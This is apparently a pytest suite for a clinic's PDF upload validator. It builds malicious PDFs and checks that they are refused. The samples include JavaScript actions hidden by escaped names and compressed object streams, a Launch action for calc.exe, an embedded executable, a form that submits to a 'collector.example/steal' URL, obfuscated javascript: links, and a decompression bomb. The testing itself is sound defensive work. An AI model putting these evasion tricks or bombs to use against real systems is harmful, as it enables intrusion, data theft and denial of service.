"""PDFs carrying scripts, actions that reach outside them, or attached files are refused at the
form, however they are written (security test findings, issue 16); plain PDFs and links pass."""

import io
import itertools
import struct
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from appointments.models import AppointmentRequest, Attachment
from clinic import uploads
from tests.appointments.test_uploads import peak_memory_growth

REFER = "/appointments/refer/"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
REFUSED = (
    "contains scripts, actions or attached files, so we cannot accept it. Please print it to a "
    "new PDF (“Microsoft Print to PDF” or “Save as PDF”) and send that, or fax it to us."
)


def saved(document, **options):
    output = io.BytesIO()
    document.save(output, deterministic_id=True, **options)
    return output.getvalue()


def letter(pages=1):
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(612, 792))
    return document


def with_open_action(**action):
    document = letter()
    document.Root.OpenAction = document.make_indirect(Dictionary(Type=Name.Action, **action))
    return document


def with_link(document, action):
    """A link annotation on the first page that runs `action` when clicked."""
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], A=action)
    document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(link)]))
    return document


def javascript_in_open_action():
    return saved(with_open_action(S=Name.JavaScript, JS=String("app.alert('hi');//xx")))


def javascript_with_escaped_name():
    """/JavaScript written /J#61vaScript in the file itself; the script loses two characters in
    the same object, so every offset in the cross-reference table stays right."""
    data = javascript_in_open_action()
    escaped = data.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"//xx)", b"//)")
    assert len(escaped) == len(data) and b"/J#61vaScript" in escaped
    assert b"/JavaScript" not in escaped
    return escaped


def javascript_in_compressed_object_stream():
    """A page's open action, inside a compressed object stream."""
    document = letter()
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    data = saved(
        document,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        compress_streams=True,
    )
    assert b"JavaScript" not in data and b"/ObjStm" in data
    return data


def javascript_in_the_document_name_tree():
    """A document-level script, as Acrobat writes one: run when the file opens."""
    document = letter()
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    return saved(document)


def javascript_name_tree_alone():
    """The document's /JavaScript name tree is refused for what it is, whatever we find in it:
    a viewer repairing a damaged file may find entries our parser does not."""
    document = letter()
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([])))
    return saved(document)


def javascript_action_alone():
    """A JavaScript action is refused for its type, not only for a script found under /JS."""
    return saved(with_open_action(S=Name.JavaScript))


def launch_action():
    return saved(with_open_action(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))


def embedded_executable():
    document = letter()
    document.attachments["update.exe"] = pikepdf.AttachedFileSpec(document, EXE)
    return saved(document)


def form_that_submits():
    action = Dictionary(
        S=Name.SubmitForm,
        F=Dictionary(FS=Name.URL, F=String("https://collector.example/steal")),
    )
    return saved(with_link(letter(), action))


def javascript_link():
    return saved(with_link(letter(), Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)"))))


def with_annotation(subtype, **entries):
    """A one-page letter with one annotation of `subtype`, marked by its type alone."""
    document = letter()
    note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=[72, 700, 300, 720], **entries)
    document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(note)]))
    return saved(document)


def embedded_file_stream():
    """An embedded file's stream that no /EF names: refused by its type alone."""
    document = letter()
    stream = pikepdf.Stream(document, EXE)
    stream.Type = Name.EmbeddedFile
    document.Root.Extra = document.make_indirect(stream)
    return saved(document)


def link_to(uri):
    """A one-page letter whose only link opens `uri` (a PDF string, or another object)."""
    return lambda: saved(with_link(letter(), Dictionary(S=Name.URI, URI=uri)))


ATTACKS = {
    "javascript-open-action": javascript_in_open_action,
    "escaped-name": javascript_with_escaped_name,
    "document-name-tree": javascript_in_the_document_name_tree,
    "name-tree-alone": javascript_name_tree_alone,
    "javascript-action-alone": javascript_action_alone,
    "compressed-object-stream": javascript_in_compressed_object_stream,
    "launch": launch_action,
    "embedded-file": embedded_executable,
    "submit-form": form_that_submits,
    "javascript-link": javascript_link,
    # Browsers drop tabs and newlines anywhere in an address, and leading control characters.
    "javascript-link-with-a-tab": link_to(String("java\tscript:alert(1)")),
    "javascript-link-after-control-characters": link_to(String("\x00\x1fjavascript:alert(1)")),
    "windows-share-link": link_to(String("\\\\fileserver\\share\\setup.exe")),
    "network-path-link": link_to(String("//fileserver/share/setup.exe")),
    "link-that-is-not-text": link_to(Name("/javascript")),
    # Dictionaries refused for their /Type or /Subtype alone (PDF_ACTIVE_TYPES).
    "embedded-file-stream": embedded_file_stream,
    "file-attachment-annotation": lambda: with_annotation("/FileAttachment", Name=Name.Paperclip),
    "rich-media-annotation": lambda: with_annotation("/RichMedia"),
    "3d-annotation": lambda: with_annotation("/3D"),
}


def refer(client, physician_data, *files):
    return client.post(REFER, {**physician_data, "attachments": list(files)})


def stored_files(root):
    return [path for path in root.rglob("*") if path.is_file()]


@pytest.mark.parametrize("make", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_pdf_with_active_content_is_refused_and_nothing_is_saved(
    client, physician_data, private_root, make
):
    upload = SimpleUploadedFile("records.pdf", make(), content_type="application/pdf")
    response = refer(client, physician_data, upload)
    assert response.status_code == 200
    assert f"“records.pdf” {REFUSED}" in response.text
    assert 'value="Okafor"' in response.text
    assert not AppointmentRequest.objects.exists()
    assert stored_files(private_root) == []


def test_pikepdf_reads_escaped_names_and_compressed_object_streams_as_a_viewer_does():
    """What the walk relies on: the escaped name is /JavaScript once parsed, and the action in
    the object stream is there to be found."""
    with pikepdf.open(io.BytesIO(javascript_with_escaped_name())) as document:
        assert str(document.Root.OpenAction.S) == "/JavaScript"
    with pikepdf.open(io.BytesIO(javascript_in_compressed_object_stream())) as document:
        assert any(
            isinstance(item, Dictionary) and item.get("/AA") is not None
            for item in document.objects
        )


def link_to_the_practice():
    document = letter(pages=3)
    links = [
        Dictionary(S=Name.URI, URI=String("https://prairie-family.example/")),
        Dictionary(S=Name.URI, URI=String("mailto:referrals@prairie-family.example")),
        Dictionary(S=Name.URI, URI=String("www.prairie-family.example/referrals")),
    ]
    for page, action in zip(document.pages, links, strict=True):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720])
        annotation.A = action
        page.Annots = Array([document.make_indirect(annotation)])
    return saved(document)


@pytest.mark.parametrize(
    ("data", "pages"),
    [(link_to_the_practice(), 3), (saved(letter(pages=7)), 7)],
    ids=["web-and-mail-links", "seven-pages"],
)
def test_a_plain_pdf_is_kept_as_sent_with_its_pages_counted(
    client, physician_data, private_root, data, pages
):
    upload = SimpleUploadedFile("records.pdf", data, content_type="application/pdf")
    assert refer(client, physician_data, upload).status_code == 302
    attachment = Attachment.objects.get()
    assert attachment.pages == pages
    assert len(stored_files(private_root)) == 1
    with attachment.file.open("rb") as stored:  # decrypted, as staff download it
        assert stored.read() == data


def many_objects(count):
    document = letter()
    document.Root.Notes = Array(
        [document.make_indirect(Dictionary(Number=number)) for number in range(count)]
    )
    return saved(
        document, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
    )


@pytest.mark.parametrize(
    ("limit", "value"),
    [("MAX_PDF_OBJECTS", 1_000), ("MAX_PDF_OBJECT_STREAM_BYTES", 20_000)],
)
def test_a_pdf_too_large_to_examine_is_refused_before_it_is_parsed(
    client, physician_data, private_root, monkeypatch, limit, value
):
    """2,000 objects, packed into ~30 KB of object streams: past either limit set low here."""
    monkeypatch.setattr(uploads, limit, value)
    upload = SimpleUploadedFile("chart.pdf", many_objects(2_000), content_type="application/pdf")
    response = refer(client, physician_data, upload)
    assert "“chart.pdf” is built from more parts than we can check." in response.text
    assert not AppointmentRequest.objects.exists()
    assert stored_files(private_root) == []


def web_page_code_across_the_first_megabyte():
    """A PDF whose only fault is a <script tag starting 3 bytes before the first MiB ends: the
    content check reads the file a MiB (1,048,576 bytes) at a time, and must still see it."""
    megabyte = 1024 * 1024
    document = letter()
    document.Root.Filler = document.make_indirect(
        pikepdf.Stream(document, b"0" * (megabyte + 4096))
    )
    data = bytearray(saved(document, compress_streams=False))
    start = megabyte - 3
    assert data[start : start + 7] == b"0000000"  # inside the filler stream
    data[start : start + 7] = b"<script"
    assert b"<script" not in data[:megabyte] and b"<script" not in data[megabyte:]
    return bytes(data)


def test_web_page_code_split_across_the_read_boundary_is_found(
    client, physician_data, private_root
):
    upload = SimpleUploadedFile(
        "records.pdf", web_page_code_across_the_first_megabyte(), content_type="application/pdf"
    )
    response = refer(client, physician_data, upload)
    assert response.status_code == 200
    assert "“records.pdf” contains web page code or scripts, so we cannot accept it." in (
        response.text
    )
    assert not AppointmentRequest.objects.exists()
    assert stored_files(private_root) == []


PRINT_IT = (
    "Please print it to a new PDF (“Microsoft Print to PDF” or “Save as PDF”) and send that, "
    "or fax it to us."
)


def no_pages():
    """A PDF that opens but has no page: nothing for staff to read."""
    document = pikepdf.new()
    return saved(document)


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\nnot a pdf at all", no_pages()],
    ids=["damaged", "no-pages"],
)
def test_a_pdf_that_cannot_be_read_is_refused_saying_so(client, physician_data, private_root, data):
    upload = SimpleUploadedFile("records.pdf", data, content_type="application/pdf")
    response = refer(client, physician_data, upload)
    assert response.status_code == 200
    assert list(response.context["form"].errors["attachments"]) == [
        f"“records.pdf” could not be read as a PDF. {PRINT_IT}"
    ]
    assert not AppointmentRequest.objects.exists()
    assert stored_files(private_root) == []


def refusal(data):
    with pytest.raises(ValidationError) as refused:
        uploads.check_attachment(SimpleUploadedFile("records.pdf", data))
    return refused.value.code, refused.value.messages


def test_each_refused_pdf_says_what_is_wrong_and_what_to_do(monkeypatch):
    assert refusal(no_pages()) == (
        "bad_pdf",
        [f"“records.pdf” could not be read as a PDF. {PRINT_IT}"],
    )
    assert refusal(saved(letter()) + b"<script>alert(1)</script>") == (
        "unsafe_pdf",
        [f"“records.pdf” contains web page code or scripts, so we cannot accept it. {PRINT_IT}"],
    )
    assert refusal(launch_action()) == (
        "active_pdf",
        [
            "“records.pdf” contains scripts, actions or attached files, so we cannot accept it. "
            f"{PRINT_IT}"
        ],
    )
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 1_000)
    assert refusal(many_objects(2_000)) == (
        "complex_pdf",
        [f"“records.pdf” is built from more parts than we can check. {PRINT_IT}"],
    )


def test_a_link_after_a_line_break_is_still_a_plain_link(client, physician_data, private_root):
    """Browsers drop a link's leading line break; what is left is a web address."""
    data = link_to(String("\nhttps://prairie-family.example/referrals"))()
    upload = SimpleUploadedFile("records.pdf", data, content_type="application/pdf")
    assert refer(client, physician_data, upload).status_code == 302
    assert Attachment.objects.get().pages == 1


COMPLEX = f"“records.pdf” is built from more parts than we can check. {PRINT_IT}"


def packed_letter(
    *, filters=b"", pack=bytes, page=b"", objects=(), stream_number=None, page_packed=True
):
    """A one-page letter written byte by byte, its page (unless not `page_packed`) and `objects`
    packed in one object stream with a cross-reference stream, as PDF 1.5 writers do. The object
    stream's dictionary ends with `filters`; `pack` makes its stored bytes from its content;
    `page` adds entries to the page. `stream_number` points the packed objects' entries at
    another object instead."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] %s >>" % page
    plain = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    bodies = [page, *objects] if page_packed else list(objects)
    plain += [] if page_packed else [page]
    first = len(plain) + 1
    numbers = range(first, first + len(bodies))
    starts = itertools.accumulate((len(body) + 1 for body in bodies[:-1]), initial=0)
    header = b"".join(b"%d %d " % entry for entry in zip(numbers, starts, strict=True))
    stored = pack(header + b" ".join(bodies))
    stream = first + len(bodies)
    plain.append(
        b"<< /Type /ObjStm /N %d /First %d /Length %d %s >>\nstream\n%s\nendstream"
        % (len(bodies), len(header), len(stored), filters, stored)
    )
    data = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, text in zip([*range(1, first), stream], plain, strict=True):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    packed = [(2, stream_number or stream, index) for index in range(len(bodies))]
    rows = [
        (0, 0, 65535),
        *[(1, offset, 0) for offset in offsets[:-1]],
        *packed,
        (1, offsets[-1], 0),
    ]
    xref = len(data)
    table = b"".join(struct.pack(">BII", *row) for row in [*rows, (1, xref, 0)])
    data += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d >>\n" % (
        stream + 1,
        stream + 2,
        len(table),
    )
    data += b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, xref)
    return bytes(data)


def deflated(content):
    return zlib.compress(content)


def unpacking_to(size, filters=b"/Filter /FlateDecode", pack=deflated):
    """A letter whose object stream unpacks to exactly `size` bytes, padded with spaces."""
    return packed_letter(filters=filters, pack=lambda content: pack(content.ljust(size)))


def accepted_pages(data):
    return uploads.check_attachment(SimpleUploadedFile("records.pdf", data)).pages


@pytest.mark.parametrize(
    "data",
    [
        packed_letter(),
        packed_letter(filters=b"/Filter /FlateDecode", pack=deflated),
        packed_letter(filters=b"/Filter [/FlateDecode]", pack=deflated),
        packed_letter(page=b"/Rotate 4 0 R", objects=[b"90"]),
    ],
    ids=["stored", "deflated", "deflated-named-in-an-array", "indirect-number"],
)
def test_a_pdf_packed_in_object_streams_as_writers_pack_them_is_accepted(data):
    assert accepted_pages(data) == 1


@pytest.mark.parametrize(
    "data",
    [
        packed_letter(
            filters=b"/Filter [/FlateDecode /FlateDecode]",
            pack=lambda content: zlib.compress(zlib.compress(content)),
        ),
        packed_letter(
            filters=b"/Filter /ASCIIHexDecode", pack=lambda content: content.hex().encode() + b">"
        ),
        packed_letter(filters=b"/Filter /FlateDecode /DecodeParms << >>", pack=deflated),
        packed_letter(stream_number=1),
    ],
    ids=["two-filters", "hex", "decode-parameters", "catalog-as-object-stream"],
)
def test_an_object_stream_no_real_writer_makes_is_refused_unread(data):
    assert refusal(data) == ("complex_pdf", [COMPLEX])


STORED = {"filters": b"", "pack": bytes}
DEFLATED_IN_AN_ARRAY = {"filters": b"/Filter [/FlateDecode]"}


@pytest.mark.parametrize("packing", [STORED, {}], ids=["stored", "deflated"])
def test_an_object_stream_unpacking_to_8_mb_is_accepted(packing):
    assert accepted_pages(unpacking_to(8 * 1024 * 1024, **packing)) == 1


@pytest.mark.parametrize(
    "packing",
    [STORED, {}, DEFLATED_IN_AN_ARRAY],
    ids=["stored", "deflated", "deflated-named-in-an-array"],
)
def test_an_object_stream_unpacking_past_8_mb_is_refused_unread(packing):
    data = unpacking_to(8 * 1024 * 1024 + 1, **packing)
    assert refusal(data) == ("complex_pdf", [COMPLEX])


def with_trailer_size(size):
    """A plain letter whose trailer claims `size` objects (its cross-reference table lists 4)."""
    data = saved(letter())
    assert data.count(b"/Size 5 ") == 1
    return data.replace(b"/Size 5 ", size)


def test_a_pdf_may_number_its_objects_up_to_200_000():
    assert accepted_pages(with_trailer_size(b"/Size 200001 ")) == 1


@pytest.mark.parametrize(
    "size",
    [b"/Size 200002 ", b"/Size /Five ", b""],
    ids=["past-200-000", "not-a-number", "missing"],
)
def test_a_pdf_numbering_more_objects_or_not_saying_how_many_is_refused_unread(size):
    assert refusal(with_trailer_size(size)) == ("complex_pdf", [COMPLEX])


def test_a_pdf_of_200_000_objects_is_examined_and_accepted():
    data = packed_letter(
        objects=[b"null"] * 199_995, filters=b"/Filter /FlateDecode", pack=deflated
    )
    with pikepdf.open(io.BytesIO(data)) as document:
        assert len(document.get_xref_table()) == 200_000
        assert document.trailer.Size == 200_001
    assert accepted_pages(data) == 1


def with_array_of(length):
    """A packed letter with one more array of `length` numbers; its other dictionaries and
    arrays hold 34 keys and items (the cross-reference stream's, counted as the trailer too)."""
    array = b"[" + b"0 " * length + b"]"
    return packed_letter(objects=[array], filters=b"/Filter /FlateDecode", pack=deflated)


def test_a_pdf_of_2_million_keys_and_array_items_is_accepted():
    assert accepted_pages(with_array_of(2_000_000 - 34)) == 1


def test_a_pdf_of_more_than_2_million_keys_and_array_items_is_refused():
    assert refusal(with_array_of(2_000_001 - 34)) == ("complex_pdf", [COMPLEX])


def deflated_zeros(content, megabytes):
    """`content` followed by `megabytes` of zero bytes (whitespace in a PDF), deflated."""
    packer = zlib.compressobj()
    megabyte = bytes(1024 * 1024)
    zeros = [packer.compress(megabyte) for _ in range(megabytes)]
    return b"".join([packer.compress(content), *zeros, packer.flush()])


@pytest.mark.memory
@pytest.mark.parametrize("page_packed", [False, True], ids=["page-outside", "page-inside"])
def test_an_object_stream_bomb_is_refused_having_unpacked_no_more_than_8_mb(page_packed):
    """256 MB of zeros deflated into 250 KB. Opening a PDF once unpacked, without a bound, an
    object stream holding a page (qpdf walked the pages to copy inherited attributes)."""
    bomb = packed_letter(
        filters=b"/Filter /FlateDecode",
        pack=lambda content: deflated_zeros(content, 256),
        objects=[b"<< /Producer (bomb) >>"],
        page_packed=page_packed,
    )
    refused, growth = peak_memory_growth(lambda: refusal(bomb))
    assert refused == ("complex_pdf", [COMPLEX])
    assert growth < 64 * 1024 * 1024
